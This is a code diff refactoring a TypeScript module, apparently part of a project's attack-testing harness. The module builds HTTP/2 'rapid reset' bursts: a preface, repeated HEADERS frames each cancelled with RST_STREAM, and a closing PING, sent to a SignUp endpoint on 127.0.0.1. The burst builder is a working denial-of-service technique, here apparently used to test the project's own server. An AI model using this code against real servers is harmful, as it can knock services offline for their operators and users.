@@ -1,5 +1,7 @@
+import { constants } from "node:http2";
 import { connect, type TcpNetConnectOpts } from "node:net";
 import { setTimeout as wait } from "node:timers/promises";
+import { frame, frameType, opening, uint32 } from "../test/support/net/http2-frames.ts";
 import type { AttackJob } from "./attacker.ts";
 import { type Counts, count } from "./repeat.ts";
 
@@ -46,53 +48,43 @@ function sendBurst(target: TcpNetConnectOpts, burst: Buffer, counts: Counts): Pr
   });
 }
 
-const frameType = { headers: 1, reset: 3, settings: 4, ping: 6 };
-const pong = frame(frameType.ping, 1, 0, Buffer.from("lastping"));
+const payload = Buffer.from("lastping");
+const pong = frame(frameType.ping, 1, 0, payload);
 
 /** Returns the bytes of one burst (RFC 9113): the preface, all streams with their resets, and a PING. */
 function resetBurst(port: number): Buffer {
   const headers = headerBlock(port);
-  const cancel = Buffer.from([0, 0, 0, 8]);
-  const frames = [
-    Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
-    frame(frameType.settings, 0, 0, Buffer.alloc(0)),
-  ];
+  const cancel = uint32(constants.NGHTTP2_CANCEL);
+  const frames = [opening];
   for (let n = 0; n < resets; n++) {
     const stream = 2 * n + 1;
     // The flag 4 is END_HEADERS. Without END_STREAM, a body would follow.
-    frames.push(frame(frameType.headers, 4, stream, headers), frame(frameType.reset, 0, stream, cancel));
+    frames.push(frame(frameType.headers, 4, stream, headers), frame(frameType.rstStream, 0, stream, cancel));
   }
-  frames.push(frame(frameType.ping, 0, 0, Buffer.from("lastping")));
+  frames.push(frame(frameType.ping, 0, 0, payload));
   return Buffer.concat(frames);
 }
 
-function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
-  const head = Buffer.alloc(9);
-  head.writeUIntBE(payload.length, 0, 3);
-  head.writeUInt8(type, 3);
-  head.writeUInt8(flags, 4);
-  head.writeUInt32BE(stream, 5);
-  return Buffer.concat([head, payload]);
-}
+// Indexes in the static table of HPACK (RFC 7541, appendix A). The first two are complete headers, the others are names.
+const hpack = {
+  postMethod: [0x83],
+  httpScheme: [0x86],
+  authority: [0x01],
+  path: [0x04],
+  contentType: [0x0f, 0x10],
+};
 
-// Returns headers in HPACK (RFC 7541). Names are indexes of the static table, values are literals.
+// Returns headers in HPACK. Names are indexes of the static table, values are literals.
 function headerBlock(port: number): Buffer {
   const value = (text: string) => [text.length, ...Buffer.from(text)];
-  const [postMethod, httpScheme, authority, path, contentType] = [
-    [0x83],
-    [0x86],
-    [0x01],
-    [0x04],
-    [0x0f, 0x10],
-  ];
   return Buffer.from([
-    ...(postMethod ?? []),
-    ...(httpScheme ?? []),
-    ...(authority ?? []),
+    ...hpack.postMethod,
+    ...hpack.httpScheme,
+    ...hpack.authority,
     ...value(`127.0.0.1:${port}`),
-    ...(path ?? []),
+    ...hpack.path,
     ...value("/latchkey.v1.SessionService/SignUp"),
-    ...(contentType ?? []),
+    ...hpack.contentType,
     ...value("application/json"),
   ]);
 }
